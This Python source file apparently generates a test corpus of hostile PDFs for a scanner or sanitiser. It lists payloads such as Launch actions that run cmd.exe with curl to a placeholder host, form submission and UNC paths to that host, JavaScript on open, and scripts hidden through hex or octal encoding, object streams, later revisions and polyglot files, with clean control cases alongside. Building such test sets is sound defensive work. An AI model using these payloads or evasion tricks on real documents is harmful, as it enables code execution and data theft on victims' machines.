"""Attacks in PDF, written by hand: objects, names in disguise, object streams, revisions, and other formats around it."""

import attack_pdf_content
from attack import HOST, Attack, zipped
from attack_pdf_content import JS
from pdf_writer import compressed, objects, pdf, stream, written

H = HOST.encode()


LAUNCH = b"<</S/Launch/F(\\\\\\\\" + H + b"\\\\x.exe)>>"
ACTIONS = {
    "javascript": JS,
    "launch": LAUNCH,
    "launch-win": b"<</S/Launch/Win<</F(cmd.exe)/P(/c curl " + H + b")>>>>",
    "submit": b"<</S/SubmitForm/F<</FS/URL/F(http://" + H + b")>>>>",
    "import": b"<</S/ImportData/F(\\\\\\\\" + H + b"\\\\x.fdf)>>",
    "gotor": b"<</S/GoToR/F(\\\\\\\\" + H + b"\\\\x.pdf)/D[0/Fit]>>",
    "gotoe": b"<</S/GoToE/F(x.pdf)/D[0/Fit]/T<</R/C/N(" + H + b")>>>>",
    "uri-file": b"<</S/URI/URI(file://" + H + b"/x)>>",
    "uri-javascript": b"<</S/URI/URI(javascript:alert\\(1\\))>>",
    "uri-unc": b"<</S/URI/URI(\\\\\\\\" + H + b"\\\\x)>>",
    "thread": b"<</S/Thread/F(http://" + H + b")/D 0>>",
    "rendition": b"<</S/Rendition/OP 0/JS(x " + H + b")>>",
    "movie": b"<</S/Movie/T(" + H + b")>>",
    "hide": b"<</S/Hide/T(x)>>",
    "reset": b"<</S/ResetForm>>",
    "named": b"<</S/Named/N/SaveAs>>",
    "setocg": b"<</S/SetOCGState/State[/ON 5 0 R]>>",
    "unknown": b"<</S/RichMediaExecute/CMD(" + H + b")>>",
    "next": b"<</S/GoTo/D[3 0 R/Fit]/Next" + JS + b">>",
    "next-array": b"<</S/GoTo/D[3 0 R/Fit]/Next[<</S/GoTo/D[3 0 R/Fit]/Next" + JS + b">>]>>",
}


def actions():
    for name, action in ACTIONS.items():
        yield f"open-{name}", f"{name} on opening", pdf(b"/OpenAction" + action)
    for name in ("javascript", "launch", "submit", "gotor", "uri-file", "next"):
        link = b"/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 99 99]/A" + ACTIONS[name] + b">>]"
        yield f"link-{name}", f"{name} of a link", pdf(b"", link)
    yield "page-aa", "script of a page", pdf(b"", b"/AA<</O" + JS + b">>")
    yield "catalog-aa", "script of the document", pdf(b"/AA<</WC" + JS + b">>")
    yield "names-js", "script by name", pdf(b"/Names<</JavaScript<</Names[(a)" + JS + b"]>>>>")
    yield (
        "names-js-kids",
        "script by name, in a tree",
        pdf(b"/Names<</JavaScript<</Kids[10 0 R]>>>>", more=[b"<</Limits[(a)(a)]/Names[(a)" + JS + b"]>>"]),
    )
    yield (
        "outline",
        "script of a bookmark",
        pdf(
            b"/Outlines 10 0 R",
            more=[b"<</First 11 0 R/Last 11 0 R/Count 1>>", b"<</Title(a)/Parent 10 0 R/A" + JS + b">>"],
        ),
    )
    yield (
        "js-stream",
        "script in a stream",
        pdf(b"/OpenAction<</S/JavaScript/JS 10 0 R>>", more=[stream(b"app.alert('" + H + b"')", packed=True)]),
    )
    yield (
        "js-hex",
        "script as a hexadecimal string",
        pdf(b"/OpenAction<</S/JavaScript/JS<" + (b"app.alert('" + H + b"')").hex().encode() + b">>>"),
    )
    yield (
        "js-utf16",
        "script in UTF-16",
        pdf(b"/OpenAction<</S/JavaScript/JS<feff" + f"app.alert('{HOST}')".encode("utf-16-be").hex().encode() + b">>>"),
    )
    yield (
        "js-octal",
        "script in octal digits",
        pdf(
            b"/OpenAction<</S/JavaScript/JS("
            + b"".join(b"\\%03o" % sign for sign in b"app.alert('" + H + b"')")
            + b")>>"
        ),
    )
    yield (
        "name-hex",
        "names in hexadecimal",
        pdf(b"/Open#41ction<</#53/J#61v#61Script/#4a#53(app.alert\\('" + H + b"'\\))>>"),
    )
    yield (
        "name-hex-all",
        "every letter in hexadecimal",
        pdf(b"/#4f#70#65#6e#41#63#74#69#6f#6e<</#53/#4a#61#76#61#53#63#72#69#70#74/#4a#53(x " + H + b")>>"),
    )
    yield (
        "indirect",
        "an action by references",
        pdf(b"/OpenAction 10 0 R", more=[b"<</S 11 0 R/JS 12 0 R>>", b"/JavaScript", b"(app.alert\\('" + H + b"'\\))"]),
    )
    yield (
        "comments",
        "an action with comments inside",
        pdf(b"/OpenAction%x\n<<%y\r/S%z\n/JavaScript/JS(x " + H + b")>>"),
    )
    yield "twice", "a key twice", pdf(b"/OpenAction[3 0 R/Fit]/OpenAction" + JS)
    yield "object-stream", "an action in an object stream", compressed({10: JS}, objects(b"/OpenAction 10 0 R"))
    yield (
        "object-stream-catalog",
        "the catalogue in an object stream",
        compressed(
            {1: b"<</Type/Catalog/Pages 2 0 R/OpenAction" + JS + b">>"}, {n: b for n, b in objects().items() if n != 1}
        ),
    )
    hidden = written({1: b"<</Type/Catalog/Pages 2 0 R/OpenAction" + JS + b">>"}, head=b"", start=len(pdf()))
    yield "revision", "a later revision with a script", pdf() + hidden
    clean = written({1: b"<</Type/Catalog/Pages 2 0 R>>"}, head=b"", start=len(pdf(b"/OpenAction" + JS)))
    yield "revision-hidden", "an earlier revision with a script", pdf(b"/OpenAction" + JS) + clean
    yield "unreachable", "a script that nothing refers to", pdf(more=[JS])
    yield (
        "second-object",
        "an object number twice",
        written(objects()).replace(
            b"xref\n0 1", b"1 0 obj\n<</Type/Catalog/Pages 2 0 R/OpenAction" + JS + b">>\nendobj\nxref\n0 1", 1
        ),
    )
    yield "no-table", "a table of contents that lies", pdf(b"/OpenAction" + JS).replace(b"startxref\n", b"startxref\n9")
    yield (
        "encrypted-empty",
        "said to be encrypted",
        written(
            objects(b"/OpenAction" + JS),
            trailer=b"/Encrypt<</Filter/Standard/V 1/R 2/P -4/O<" + b"00" * 32 + b">/U<" + b"00" * 32 + b">>>",
        ),
    )


def around():
    clean = pdf()
    yield "behind", "bytes behind the end", clean + b"MZ" + H
    yield "before", "a script before the header", b"#!/bin/sh\ncurl " + H + b"\n" + clean
    yield "polyglot-zip", "PDF and archive in one", clean + zipped([("x.js", HOST)])
    yield "polyglot-html", "PDF and HTML in one", b"<script src=//" + H + b"></script><!-- %PDF-1.4\n" + clean + b"-->"
    yield (
        "header-comment",
        "bytes behind the header",
        clean.replace(b"%\xe2\xe3", b"%<script src=//" + H + b"></script>\xe2\xe3", 1),
    )
    yield "between", "bytes between objects", clean.replace(b"endobj\n2 0 obj", b"endobj\n" + H + b"\n2 0 obj", 1)


UNSEEN = set("flate-bomb inline-image content-comment marked-content metadata".split())


def attacks():
    for make in (actions, attack_pdf_content.contents, around):
        for name, what, data in make():
            yield Attack(f"pdf/{name}.pdf", what, data, seen=name not in UNSEEN)
    yield Attack("pdf/plain.pdf", "nothing", pdf(), control=True, seen=False)
    link = b"/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/URI/URI(https://city.example/)>>>>]"
    yield Attack("pdf/plain-link.pdf", "a link", pdf(b"/OpenAction[3 0 R/Fit]", link), control=True, seen=False)
